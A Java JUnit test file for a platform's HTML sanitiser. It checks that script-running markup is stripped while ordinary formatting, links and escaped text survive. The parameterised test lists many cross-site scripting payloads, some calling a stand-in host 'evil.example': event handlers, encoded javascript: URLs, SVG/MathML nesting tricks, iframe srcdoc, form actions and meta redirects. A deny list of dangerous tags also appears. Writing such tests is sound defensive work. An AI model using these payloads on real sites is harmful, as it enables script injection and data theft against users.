package org.councilcommons.platform.html;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class HtmlSanitiserTest {

    /** Anything that could run script or load something when the page is shown. */
    private static void assertInert(String html) {
        String lower = html.toLowerCase(Locale.ROOT);
        for (String danger : new String[] {"<script", "javascript:", "vbscript:", "data:", " on", "<svg", "<math",
                "<iframe", "<object", "<embed", "<style", "<img", "<form", "<base", "<meta", "<link", "srcdoc", "style="}) {
            assertFalse(lower.contains(danger), () -> "'" + danger + "' survived in: " + html);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<p onclick=\"alert(1)\" onmouseover='alert(2)'>text</p>",
            "<a href=\"javascript:alert(1)\">link</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">link</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">link</a>",
            "<a href=\"jav\tascript:alert(1)\">link</a>",
            "<a href=\"vbscript:msgbox(1)\">link</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">link</a>",
            "<svg onload=alert(1)><circle r=1></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
            "<style>body{background:url(javascript:alert(1))}</style>",
            "<p style=\"background:url(javascript:alert(1))\">styled</p>",
            "<base href=\"https://evil.example/\">",
            "<form action=\"https://evil.example\"><input name=p></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<<script>script>alert(1)<</script>/script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<div><p>unclosed <b>tags <script>alert(1)",
    })
    void stripsEverythingThatCouldRunScript(String attack) {
        assertInert(HtmlSanitiser.clean(attack));
    }

    @Test
    void keepsTheFormattingAnEditorUses() {
        String html = "<h2>What we did</h2><p>We <strong>built</strong> an <em>app</em>.</p>"
                + "<ul><li>one</li><li>two</li></ul><blockquote>quote</blockquote>";
        assertEquals(html, HtmlSanitiser.clean(html));
    }

    @Test
    void keepsWebLinksAndMarksThemNofollow() {
        String clean = HtmlSanitiser.clean("<a href=\"https://www.reading.gov.uk/\" target=\"_blank\">Reading</a>");
        assertTrue(clean.contains("href=\"https://www.reading.gov.uk/\""), clean);
        assertTrue(clean.contains("rel=\"nofollow noopener noreferrer\""), clean);
        assertFalse(clean.contains("target"), clean);
    }

    @Test
    void plainTextBecomesParagraphsAndIsEscaped() {
        assertEquals("<p>First line<br>second line</p><p>Costs &lt; £5,000 &amp; rising</p>",
                HtmlSanitiser.clean("First line\nsecond line\n\nCosts < £5,000 & rising"));
    }

    @Test
    void nothingInGivesNothingOut() {
        assertEquals("", HtmlSanitiser.clean(null));
        assertEquals("", HtmlSanitiser.clean("   "));
    }

    @Test
    void textExtractsWhatAReaderSees() {
        assertEquals("Hello world", HtmlSanitiser.text("<p>Hello <b>world</b></p>"));
    }
}
